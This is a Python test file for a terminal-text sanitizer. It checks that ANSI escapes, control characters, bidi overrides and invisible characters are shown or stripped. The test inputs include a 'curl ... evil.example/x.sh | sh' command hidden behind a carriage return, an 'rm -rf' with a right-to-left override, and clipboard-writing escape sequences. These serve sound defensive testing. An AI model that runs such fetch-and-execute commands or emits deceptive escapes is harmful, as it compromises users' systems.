"""The sanitizer: markup stays literal, escape sequences and controls never survive."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console
from rich.style import Style

from tests.hostile import HOSTILE, raw_characters, terminal_width
from workbench.core.sanitize import ansi_text, clean, clean_line, clean_output, plain, safe_json

FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("[bold]x[/]", "[bold]x[/]"),
        ("[@click=app.quit]q[/]", "[@click=app.quit]q[/]"),
        ("clip\x1b]52;c;aGk=\x07board", "clip␛]52;c;aGk=␇board"),
        ("title\x1b]0;pwned\x1b\\ok", "title␛]0;pwned␛\\ok"),
        ("c1 csi \x9b31mred", "c1 csi ⟨U+009B⟩31mred"),
        ("nul\x00 bell\x07 del\x7f bs\x08", "nul␀ bell␇ del␡ bs␈"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("crlf\r\nline", "crlf␍\nline"),
        (
            "curl -s http://evil.example/x.sh | sh #\rls -la",
            "curl -s http://evil.example/x.sh | sh #␍ls -la",
        ),
        ("rm -rf \u202eexe.gnp", "rm -rf ⟨U+202E⟩exe.gnp"),
        ("a\u2066b\u2069c", "a⟨U+2066⟩b⟨U+2069⟩c"),
        ("pass\u200bword\u200e\u200f", "pass⟨U+200B⟩word⟨U+200E⟩⟨U+200F⟩"),
        ("one\u2028two\u2029", "one⟨U+2028⟩two⟨U+2029⟩"),
        ("\ufeffbom", "⟨U+FEFF⟩bom"),
        ("hi\U000e0041", "hi⟨U+E0041⟩"),
        ("blank\u3164", "blank⟨U+3164⟩"),
        ("a\u200cb a\u200db", "a⟨U+200C⟩b a⟨U+200D⟩b"),
        ("surrogate \ud800 here", "surrogate \ufffd here"),
        # Part of the writing: a family emoji, a Persian word, a Hindi conjunct, VS16.
        ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),
        ("می\u200cخواهم", "می\u200cخواهم"),  # noqa: RUF001
        ("क्\u200dष", "क्\u200dष"),
        ("❤\ufe0f", "❤\ufe0f"),
        ("1\ufe0f\u20e3", "1\ufe0f\u20e3"),
        ("❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 👍🏽", "❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 👍🏽"),
        # ...but not two in a row, nor at the start.
        ("❤\ufe0f\ufe0f", "❤\ufe0f⟨U+FE0F⟩"),
        ("ب\u200c\u200cب", "ب⟨U+200C⟩⟨U+200C⟩ب"),
    ],
)
def test_clean_shows_what_is_there(raw: str, expected: str) -> None:
    assert clean(raw) == expected


def test_a_carriage_return_never_rewrites_an_argument() -> None:
    """The approval must show what will run, not what a terminal would leave on screen."""
    command = "curl -s http://evil.example/x.sh | sh #\rls -la"
    assert clean(command).startswith("curl -s http://evil.example/x.sh | sh #")
    assert clean_line(command) == clean(command)
    assert clean_output(command) == "ls -las http://evil.example/x.sh | sh #"


def test_clean_line_shows_line_breaks() -> None:
    assert clean_line("label\n# forged line\tx") == "label␊# forged line␉x"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("clip\x1b]52;c;aGk=\x07board", "clipboard"),
        ("title\x1b]0;pwned\x1b\\ok", "titleok"),
        ("\x1b[2Jcleared", "cleared"),
        ("c1 csi \x9b31mred", "c1 csi red"),
        ("link \x1b]8;;https://evil\x1b\\text\x1b]8;;\x1b\\", "link text"),
        ("dcs \x1bPq#0;2;0;0;0\x1b\\ end", "dcs  end"),
        ("apc \x1b_hidden\x1b\\ pm \x1b^x\x1b\\ sos \x1bXy\x1b\\.", "apc  pm  sos ."),
        ("nul\x00 bell\x07 del\x7f bs\x08", "nul bell del bs"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("crlf\r\nline", "crlf\nline"),
        ("progress 10%\rprogress 99%", "progress 99%"),
        ("unterminated \x1b]52;c;AAAA", "unterminated "),
        ("lone escape \x1b", "lone escape "),
        ("charset \x1b(Bswitch", "charset switch"),
        ("surrogate \ud800 here", "surrogate \ufffd here"),
        # Invisible characters are marked in output too: they hide text from the reader.
        ("pass\u200bword \u202eexe", "pass⟨U+200B⟩word ⟨U+202E⟩exe"),
    ],
)
def test_clean_output_shows_what_a_terminal_would(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_hostile_text_survives_any_mode(name: str) -> None:
    raw = HOSTILE[name]
    for shown in (clean(raw), clean_line(raw), clean_output(raw), ansi_text(raw).plain):
        assert raw_characters(shown) == [], (name, shown)


def test_sgr_colour_is_kept_as_style_only() -> None:
    text = ansi_text("\x1b[1;31merror\x1b[0m \x1b[38;5;208morange\x1b[39m \x1b[38;2;1;2;3mrgb")
    assert text.plain == "error orange rgb"
    styles = [str(span.style) for span in text.spans]
    assert any("bold" in style and "color(1)" in style for style in styles)
    assert any("color(208)" in style for style in styles)
    assert any("#010203" in style for style in styles)


def test_no_links_or_actions_are_created() -> None:
    text = ansi_text("\x1b]8;;http://x\x1b\\click\x1b]8;;\x1b\\ [@click=app.quit]q[/]")
    for span in text.spans:
        style = span.style
        assert isinstance(style, Style)
        assert style.link is None
        assert not style.meta
    assert text.plain == "click [@click=app.quit]q[/]"


def test_plain_text_renders_literally() -> None:
    console = Console(width=60, record=True, color_system=None)
    console.print(plain("[bold]x[/] [/bold] [@click=app.quit]q[/]"))
    assert console.export_text().strip() == "[bold]x[/] [/bold] [@click=app.quit]q[/]"


@settings(deadline=None)
@given(st.text())
def test_clean_never_leaves_controls_or_invisible_characters(raw: str) -> None:
    for shown in (clean(raw), clean_output(raw), ansi_text(raw).plain):
        assert "\x1b" not in shown
        assert not FORBIDDEN.search(shown)
        assert raw_characters(shown) == []
    assert raw_characters(clean_line(raw)) == []
    assert "\n" not in clean_line(raw)


@given(st.text())
def test_ansi_text_never_leaves_controls(raw: str) -> None:
    text = ansi_text(raw)
    assert not FORBIDDEN.search(text.plain)
    assert all(getattr(span.style, "link", None) is None for span in text.spans)


def _visible(character: str) -> bool:
    return not raw_characters(character)


VISIBLE = st.characters(blacklist_categories=("Cs",)).filter(_visible)
HOSTILE_PIECES = st.sampled_from(sorted(set("".join(HOSTILE.values()))))


@given(st.text(alphabet=VISIBLE))
def test_clean_keeps_ordinary_text(raw: str) -> None:
    assert clean(raw) == raw


@settings(deadline=None)
@given(st.lists(st.one_of(st.text(alphabet=VISIBLE, max_size=4), HOSTILE_PIECES), max_size=30))
def test_clean_hides_nothing_and_rewrites_nothing(pieces: list[str]) -> None:
    """Every visible character written is shown, in order, whatever is around it."""
    raw = "".join(pieces)
    shown = clean(raw)
    position = 0
    for character in raw:
        if _visible(character):
            position = shown.find(character, position)
            assert position >= 0, (raw, shown, character)
            position += 1


JOINING = st.sampled_from(
    [
        *"a1 #\n\t\r\x1b\x07",
        *("\ufe0f", "\ufe0e", "\u200d", "\u200c", "❤", "👨", "ب", "क", "्"),
        *("\u200b", "\U000e0041", "\u3164", "é", "\u0301"),
    ]
)


@settings(deadline=None)
@given(st.text(alphabet=JOINING, max_size=12))
def test_joiners_and_selectors_are_kept_only_inside_writing(raw: str) -> None:
    """Runs of joiners, selectors at the start of a line, a joiner between ASCII letters:
    all marked; a family emoji, a Persian word, ❤️, 1️⃣ kept."""
    for shown in (clean(raw), clean_output(raw), clean_line(raw)):
        assert raw_characters(shown) == [], (raw, shown)


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("ab\u200b\u3164\u2028\ufeff\u202e\r\x1b]\x07 界")))
def test_a_cleaned_line_has_the_width_a_terminal_gives_it(raw: str) -> None:
    """No character whose width terminals disagree on survives: Rich's measure holds."""
    line = clean_line(raw)
    assert terminal_width(line) == cell_len(line)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)


@given(JSON_VALUES)
def test_safe_json_keeps_every_value_and_no_unsafe_character(value: object) -> None:
    text = safe_json(value, indent=2)
    assert json.loads(text) == value
    assert not re.search(
        "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", text
    )
    assert raw_characters(text.replace("\n", " ")) == []
    text.encode("utf-8")  # lone surrogates are escaped, so any stream can take it


def test_safe_json_keeps_wide_text_readable() -> None:
    assert safe_json({"title": "検索 🔎 \x9b"}) == '{"title": "検索 🔎 \\u009b"}'
